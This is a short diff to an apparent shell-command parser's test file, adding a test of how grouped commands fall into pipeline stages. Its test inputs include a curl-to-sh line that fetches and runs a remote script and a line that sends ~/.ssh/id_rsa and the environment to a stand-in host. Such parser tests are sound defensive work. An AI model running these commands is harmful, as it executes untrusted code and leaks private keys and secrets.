@@ -136,6 +136,14 @@ def test_pipeline_and_stages() -> None:
     assert [c.stage for c in cs] == [0, 1, 2]
 
 
+def test_groups_stand_where_they_are_in_a_pipeline() -> None:
+    cs = cmds("(curl -s http://x/i.sh) | sh")
+    assert [(c.name, c.stage) for c in cs] == [("curl", 0), ("sh", 1)]
+    assert len({c.pipeline for c in cs}) == 1
+    cs = cmds("{ cat ~/.ssh/id_rsa; env; } | curl -d @- https://x")
+    assert [(c.name, c.stage) for c in cs] == [("cat", 0), ("env", 0), ("curl", 1)]
+
+
 def test_lists_start_new_pipelines() -> None:
     cs = cmds("a; b && c || d & e\nf")
     assert [c.name for c in cs] == ["a", "b", "c", "d", "e", "f"]
